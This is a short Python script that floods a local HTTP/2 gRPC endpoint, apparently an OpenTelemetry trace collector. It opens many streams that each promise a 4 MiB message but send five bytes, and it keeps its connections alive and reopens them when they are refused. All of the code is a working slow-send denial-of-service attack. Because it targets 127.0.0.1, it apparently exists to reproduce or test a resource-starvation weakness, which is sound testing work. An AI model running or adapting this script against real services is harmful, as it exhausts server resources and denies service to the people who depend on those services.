# SPDX-License-Identifier: Apache-2.0
"""Streams that say "4 MiB follow" and send five bytes, on a few connections; opened again when they are refused.

    starve.py PORT CONNECTIONS"""
import socket
import struct
import sys
import threading
import time

STREAMS = 100
MESSAGE = 4 << 20


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


HEADERS = b"".join(literal(name, value) for name, value in (
    (b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"localhost"),
    (b":path", b"/opentelemetry.proto.collector.trace.v1.TraceService/Export"),
    (b"te", b"trailers"), (b"content-type", b"application/grpc")))


def attack(port):
    sock = socket.create_connection(("127.0.0.1", port))
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    sock.settimeout(0.05)
    stream, opened, data = 1, 0, b""
    while True:
        while opened < STREAMS:
            sock.sendall(frame(1, 4, stream, HEADERS) + frame(0, 0, stream, b"\0" + struct.pack(">I", MESSAGE)))
            stream += 2
            opened += 1
        try:
            data += sock.recv(65536)
        except socket.timeout:
            pass
        while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
            size, kind, flags = int.from_bytes(data[:3], "big"), data[3], data[4]
            if kind == 4 and not flags & 1:
                sock.sendall(frame(4, 1, 0, b""))
            if kind == 6 and not flags & 1:
                sock.sendall(frame(6, 1, 0, data[9:9 + size]))
            if kind == 3 or (kind in (0, 1) and flags & 1):
                opened -= 1
            data = data[9 + size:]


def keep_attacking(port):
    while True:
        try:
            attack(port)
        except OSError:
            time.sleep(0.05)


if __name__ == "__main__":
    for _ in range(int(sys.argv[2])):
        threading.Thread(target=keep_attacking, args=(int(sys.argv[1]),), daemon=True).start()
    print("attacking", flush=True)
    time.sleep(3600)
